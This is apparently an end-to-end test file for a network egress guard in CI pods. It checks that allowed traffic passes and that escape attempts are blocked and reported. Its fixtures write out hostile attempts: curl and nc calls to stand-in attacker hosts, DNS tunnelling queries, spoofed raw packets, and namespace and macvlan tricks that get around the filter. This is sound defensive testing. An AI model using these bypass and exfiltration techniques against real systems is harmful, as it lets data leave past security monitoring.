/** B16: containers behind a bridge of the pod, namespaces that a job makes, and the host's own network. */
import { writeFileSync } from "node:fs";
import { join } from "node:path";

import { afterAll, beforeAll, describe, expect, test } from "vitest";

import { type PodWatch, shell, watchPod } from "../../e2e/watched-pod.ts";
import { ATTACKER, METADATA, RESOLVER } from "../../support/internet/addresses.ts";
import { createInternet, type Internet, type Machine } from "../../support/internet/internet.ts";
import type { Place } from "../../support/internet/place.ts";
import { requires } from "../../support/requires.ts";

const { internet: needed } = requires;
const ALLOWED = { ipv4: "198.51.100.10", ipv6: "2001:db8:1::10" } as const;
const UNLISTED = { ipv4: "198.51.100.66", ipv6: "2001:db8:1::66" } as const;
const EGRESS = { allow: ["github.test:80", "github.test:443"], deny: ["evil.test"] };

describe.skipIf(!needed.available)(`a container in a guarded pod${needed.note}`, () => {
  let internet: Internet;
  let pod: Machine;
  let container: Place;
  let guard: PodWatch;
  beforeAll(async () => {
    internet = await createInternet();
    const ports = { 443: "https", 80: "http" } as const;
    await internet.site("github.test", { ...ALLOWED, ports });
    await internet.site("evil.test", { ...UNLISTED, ports });
    pod = await internet.pod({ ownProcesses: true });
    guard = await watchPod(pod, { egress: EGRESS });
    // As where an engine makes its bridge during the job.
    container = await pod.container();
  });
  afterAll(async () => {
    await guard.stop();
    await internet[Symbol.asyncDispose]();
  });

  test("reaches an allowed name, by questions over both protocols and families", async () => {
    const { stdout } = await shell(
      container,
      `curl -4 -sS http://github.test/four; curl -6 -sS http://github.test/six
       curl -sS --cacert ${pod.caFile} https://github.test/tls
       dig +short +tcp @${RESOLVER.ipv4} github.test; dig +short @${RESOLVER.ipv6} github.test`,
    );
    expect(stdout.trim().split("\n")).toEqual([
      "github.test GET /four",
      "github.test GET /six",
      "github.test GET /tls",
      ALLOWED.ipv4,
      ALLOWED.ipv4,
    ]);
  });

  test("gets nothing else out, whatever it asks and sends", async () => {
    await internet.forget();
    const { stdout } = await shell(container, ATTACKS);

    expect(stdout).not.toContain("got through");
    expect(await internet.capture.packets({ from: pod })).toEqual([]);
    expect(await internet.dns.questions()).toEqual([]);
    expect(await internet.visits()).toEqual([]);
  });

  test("is told of in the report", async () => {
    await shell(container, `curl -s -m 3 http://${ATTACKER.ipv4}/; dig +short told.evil.test`);
    expect(await guard.ask("finish")).toMatchObject({ status: 0, stderr: "" });
    const { connections, dnsQueries } = guard.report();

    expect(connections).toContainEqual(
      expect.objectContaining({
        destination: expect.objectContaining({ ip: ATTACKER.ipv4, port: 80 }),
        verdict: "blocked",
      }),
    );
    expect(dnsQueries).toContainEqual(
      expect.objectContaining({ name: "told.evil.test", verdict: "blocked" }),
    );
  });

  test("cannot be spoken for: what seems to come from outside is no answer to it", async () => {
    await internet.forget();
    const { stdout } = await container.run(["python3", "-c", SPOOFS]);

    expect(stdout).toBe("sent\n");
    expect(await internet.capture.packets({ from: pod })).toEqual([]);
  });

  test("talks to its neighbours and to the pod", async () => {
    const other = await pod.container();
    const server = other.start(["python3", "-m", "http.server", "8080", "--bind", "::"]);
    const inPod = pod.start(["python3", "-m", "http.server", "8081", "--bind", "::"]);
    const { stdout } = await shell(
      container,
      `for url in http://${other.ipv4}:8080 "http://[${other.ipv6}]:8080" http://172.17.0.1:8081; do
         until curl -s -m 5 -o /dev/null -w '%{http_code}\\n' "$url"; do :; done | tail -1
       done`,
    );
    server.kill("SIGKILL");
    inPod.kill("SIGKILL");
    expect(stdout).toBe("200\n200\n200\n");
  });

  test("is judged also where a job makes its network by hand", async () => {
    await internet.forget();
    const { stdout } = await shell(pod, OWN_NAMESPACE);

    expect(stdout).toBe("github.test GET /own\nstatus 7\nstatus 6\n");
    const left = await internet.capture.packets({ from: pod, to: ATTACKER.ipv4 });
    expect(left).toEqual([]);
  });

  test("gets nothing out by a device on top of the pod's", async () => {
    await internet.forget();
    const { stdout } = await shell(pod, ON_TOP);

    expect(stdout).toBe("refused\n");
    expect(await internet.capture.packets({ from: pod })).toEqual([]);
  });

  test("is held to a name that was denied since", async () => {
    expect((await shell(container, "curl -sS http://github.test/before")).stdout).toContain("GET");
    const late = await internet.pod({ ownProcesses: true });
    const lateContainer = await late.container();
    const lateGuard = await watchPod(late, { egress: EGRESS });
    expect((await shell(lateContainer, "curl -sS http://github.test/x")).stdout).toContain("GET");
    expect(await lateGuard.ask("tighten", "--deny", "github.test")).toMatchObject({ status: 0 });
    expect(
      await shell(
        lateContainer,
        `curl -s -m 3 --resolve github.test:80:${ALLOWED.ipv4} http://github.test/x`,
      ),
    ).toMatchObject({ status: 7 });
    expect(await lateGuard.stop()).toMatchObject({ status: 0 });
    await late[Symbol.asyncDispose]();
  });
});

describe.skipIf(!needed.available)(`a device that a job takes away${needed.note}`, () => {
  test("is told of", async () => {
    await using internet = await createInternet({ capture: false });
    const pod = await internet.pod({ ownProcesses: true });
    const guard = await watchPod(pod, { egress: EGRESS });
    await shell(
      pod,
      `unshare --net sleep 60 & child=$!
       until [ "$(readlink /proc/$child/ns/net)" != "$(readlink /proc/$$/ns/net)" ]; do :; done
       ip link set eth0 netns $child; kill $child`,
    );

    // A guard writes no more than five reports at once.
    await expect
      .poll(
        async () => {
          expect(await guard.ask("finish")).toMatchObject({ status: 0 });
          return guard.report().findings.filter(({ rule }) => rule.id === "guard-tamper");
        },
        { interval: 1_000 },
      )
      .toMatchObject([{ evidence: { device: "eth0" } }]);
    expect(await guard.stop()).toMatchObject({ status: 0 });
  });
});

describe.skipIf(!needed.available)(
  `a container whose server names are checked${needed.note}`,
  () => {
    test("reaches an allowed one, and no other at the same address", async () => {
      await using internet = await createInternet({ capture: false });
      await internet.site("github.test", { ...ALLOWED, ports: { 443: "https" } });
      const pod = await internet.pod({ ownProcesses: true });
      const container = await pod.container();
      const guard = await watchPod(pod, { egress: { ...EGRESS, sni: "verify" } });
      const curl = `curl -sS -m 5 --cacert ${pod.caFile}`;
      const { stdout } = await shell(
        container,
        `${curl} -4 https://github.test/four; ${curl} -6 https://github.test/six
       ${curl} -4 --connect-to evil.test:443:github.test:443 https://evil.test/; echo "status $?"`,
      );

      expect(stdout).toBe("github.test GET /four\ngithub.test GET /six\nstatus 35\n");
      expect(await internet.visits({ service: "https" })).toHaveLength(2);
      expect(await guard.stop()).toMatchObject({ status: 0 });
    });
  },
);

describe.skipIf(!needed.available)(`a container where the guard audits${needed.note}`, () => {
  test("goes everywhere but where it is denied, and its names are known", async () => {
    await using internet = await createInternet({ capture: false });
    await internet.site("github.test", { ...ALLOWED, ports: { 80: "http" } });
    await internet.site("evil.test", { ...UNLISTED, ports: { 80: "http" } });
    const pod = await internet.pod({ ownProcesses: true });
    const container = await pod.container();
    const guard = await watchPod(pod, { egress: { ...EGRESS, mode: "audit" } });
    const { stdout } = await shell(
      container,
      `curl -sS http://github.test/x; curl -s -o /dev/null http://${ATTACKER.ipv4}/ && echo reached
       curl -s -m 3 http://evil.test/ || echo refused; dig +short @1.1.1.1 other.evil.test >/dev/null && echo asked`,
    );
    expect(stdout).toBe("github.test GET /x\nreached\nrefused\nasked\n");
    expect(await internet.dns.questions({ server: "attacker" })).toMatchObject([
      { name: "other.evil.test" },
    ]);
    expect(await guard.stop()).toMatchObject({ status: 0 });
    expect(guard.report().dnsQueries.map(({ name }) => name)).toContain("github.test");
  });
});

describe.skipIf(!needed.available)(`the network of a host${needed.note}`, () => {
  test("keeps what it gets its address by, and refuses the rest", async () => {
    await using internet = await createInternet();
    await internet.site("github.test", { ...ALLOWED, ports: { 80: "http" } });
    const host = await internet.host({ ownProcesses: true });
    const guard = await watchPod(host, { egress: EGRESS, flags: ["--scope", "host"] });
    expect((await shell(host, `curl -sS http://github.test/x; ${CLOSED}`)).stdout).toContain(
      "GET /x",
    );
    await internet.forget();
    const program = join(host.folder, "dhcp.py");
    writeFileSync(program, DHCP);
    const { stdout } = await host.run(["python3", program]);

    expect(stdout).toBe("sent\nsent\nsent\nENOBUFS\nEPERM\n");
    const packets = await internet.capture.packets({ from: host });
    expect(packets.map(({ destination: { ip, port } }) => `${ip} ${port}`)).toEqual([
      "255.255.255.255 67",
      "255.255.255.255 67",
      "ff02::1:2 547",
    ]);
    expect(await guard.stop()).toMatchObject({ status: 0 });
  });
});

/** The last packets of a connection leave when its program has long ended. */
const CLOSED =
  'while [ -n "$(ss -Htn state fin-wait-1 state fin-wait-2 state closing state last-ack)" ]; do :; done';

/** Each says so where it succeeds. */
const ATTACKS = `
try() { "$@" >/dev/null 2>&1 && echo "got through: $*"; }
try curl -s -m 3 http://${ATTACKER.ipv4}/
try curl -s -m 3 "http://[${ATTACKER.ipv6}]/"
try curl -s -m 3 http://evil.test/
try curl -s -m 3 --resolve evil.test:80:${UNLISTED.ipv4} http://evil.test/
try curl -s -m 3 http://${METADATA.ipv4}/
try ping -c 1 -W 1 ${ATTACKER.ipv4}
try ping -6 -c 1 -W 1 ${ATTACKER.ipv6}
dig +tries=1 +time=2 @1.1.1.1 secret.evil.test | grep -q 'status: NOERROR' && echo got through: dig
dig +tcp +tries=1 +time=2 @1.1.1.1 secret.evil.test | grep -q 'status: NOERROR' && echo got through: dig over TCP
dig +tries=1 +time=2 -6 @2001:4860:4860::8888 secret.evil.test | grep -q 'status: NOERROR' && echo got through: dig over IPv6
echo payload | nc -u -w 1 ${ATTACKER.ipv4} 9999
true
`;

/** Frames with somebody else's address as their sender, to the bridge, the pod (the first machine of its internet) and beyond. */
const SPOOFS = `
import socket, struct
def checksum(b):
    t = sum(struct.unpack(">%dH" % (len(b) // 2), b)); t = (t >> 16) + (t & 0xffff); return ~(t + (t >> 16)) & 0xffff
def packet(source, target, protocol, body):
    h = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 1, 0, 64, protocol, 0, socket.inet_aton(source), socket.inet_aton(target))
    return h[:10] + struct.pack(">H", checksum(h)) + h[12:] + body
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
for target in ("172.17.0.1", "10.244.1.2", "${ALLOWED.ipv4}", "${ATTACKER.ipv4}"):
    s.sendto(packet("${ATTACKER.ipv4}", target, 17, struct.pack(">HHHH", 9999, 9, 12, 0) + b"leak"), (target, 0))
    s.sendto(packet("${ATTACKER.ipv4}", target, 1, b"\\x08\\0" + struct.pack(">H", checksum(b"\\x08\\0\\0\\0\\0\\0\\0\\0leak")) + b"\\0\\0\\0\\0leak"), (target, 0))
    s.sendto(packet("${ATTACKER.ipv4}", target, 255, b"leak"), (target, 0))
print("sent")
`;

const OWN_NAMESPACE = `
unshare --net sleep 60 & child=$!
until [ "$(readlink /proc/$child/ns/net)" != "$(readlink /proc/$$/ns/net)" ]; do :; done
ip link add own0 type veth peer name inner0 netns $child
ip addr add 192.168.77.1/24 dev own0; ip link set own0 up
nft 'table ip own { chain out { type nat hook postrouting priority srcnat; iifname own0 masquerade; }; }'
inside() { nsenter --net=/proc/$child/ns/net "$@"; }
inside ip addr add 192.168.77.2/24 dev inner0; inside ip link set inner0 up; inside ip route add default via 192.168.77.1
inside curl -4 -sS -m 5 http://github.test/own
inside curl -s -m 3 http://${ATTACKER.ipv4}/; echo "status $?"
inside curl -s -m 3 http://evil.test/; echo "status $?"
kill $child; ip link del own0; nft delete table ip own
`;

/** With its own addresses, and the neighbour known: nothing but the device's own chain is in the way. */
const ON_TOP = `
unshare --net sleep 60 & child=$!
until [ "$(readlink /proc/$child/ns/net)" != "$(readlink /proc/$$/ns/net)" ]; do :; done
ip link add link eth0 name top0 type macvlan mode bridge && ip link set top0 netns $child || exit 1
inside() { nsenter --net=/proc/$child/ns/net "$@"; }
inside ip addr add 10.244.1.77/24 dev top0; inside ip link set top0 up; inside ip route add default dev top0
inside ip neigh add ${ATTACKER.ipv4} lladdr 02:00:0a:f4:01:01 dev top0
echo leak | inside nc -u -w 1 ${ATTACKER.ipv4} 9999
inside curl -s -m 1 http://${ATTACKER.ipv4}/ || echo refused
kill $child
`;

/** As a client does that has no address, over both kinds of socket; then frames and packets that are none of that. */
const DHCP = `
import errno, socket, struct
def checksum(b):
    t = sum(struct.unpack(">%dH" % (len(b) // 2), b)); t = (t >> 16) + (t & 0xffff); return ~(t + (t >> 16)) & 0xffff
def frame(target, source, destination):
    h = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 38, 1, 0, 64, 17, 0, b"\\0" * 4, socket.inet_aton(target))
    h = h[:10] + struct.pack(">H", checksum(h)) + h[12:]
    return b"\\xff" * 6 + b"\\x02\\0\\0\\0\\0\\1" + b"\\x08\\0" + h + struct.pack(">HHHH", source, destination, 18, 0) + b"dhcp please"[:10]
def attempt(send):
    try: send(); print("sent")
    except OSError as e: print(errno.errorcode[e.errno])
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
u.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0"); u.bind(("", 68))
attempt(lambda: u.sendto(b"dhcp please", ("255.255.255.255", 67)))
p = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); p.bind(("eth0", 0))
attempt(lambda: p.send(frame("255.255.255.255", 68, 67)))
six = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); six.bind(("::", 546))
attempt(lambda: six.sendto(b"dhcp please", ("ff02::1:2", 547, 0, socket.if_nametoindex("eth0"))))
attempt(lambda: p.send(frame("${ATTACKER.ipv4}", 68, 67)))
attempt(lambda: u.sendto(b"leak", ("${ATTACKER.ipv4}", 9999)))
`;
